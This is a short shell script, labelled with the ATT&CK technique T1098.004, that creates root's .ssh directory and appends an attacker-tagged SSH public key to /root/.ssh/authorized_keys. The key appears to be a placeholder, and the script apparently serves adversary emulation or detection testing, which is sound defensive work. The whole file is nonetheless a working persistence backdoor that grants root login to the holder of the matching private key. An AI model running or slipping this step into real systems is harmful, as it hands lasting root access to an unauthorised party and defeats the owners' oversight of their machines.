#!/bin/sh
# T1098.004: an attacker's public key added to root's authorized_keys.
mkdir -p /root/.ssh
echo "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIGNvcnB1cy1rZXktbm90LWEtcmVhbC1rZXk corpus@attacker" >> /root/.ssh/authorized_keys
